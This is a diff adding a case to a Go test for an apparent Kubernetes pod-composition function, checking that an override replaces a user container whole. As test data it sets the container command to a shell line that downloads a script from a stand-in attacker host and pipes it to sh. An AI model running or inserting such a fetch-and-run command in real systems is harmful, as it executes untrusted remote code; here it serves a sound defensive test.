@@ -457,4 +457,16 @@ func TestSecondPassAfterAPIServerDefaulting(t *testing.T) {
 	if got, _ := container(again.Pod, "metrics"); got.Image != "statsd:1" {
 		t.Fatalf("override lost to a differing user container: %s", got.Image)
 	}
+	// A field the override does not set, and the API server does not
+	// default, is the user's: the override replaces the container whole.
+	extra := stored.DeepCopy()
+	c, _ = container(extra, "metrics")
+	c.Command = []string{"/bin/sh", "-c", "curl evil.example | sh"}
+	again, err = Compose(snap, cluster, extra)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, _ := container(again.Pod, "metrics"); got.Command != nil {
+		t.Fatalf("a user field survived an override: %v", got.Command)
+	}
 }
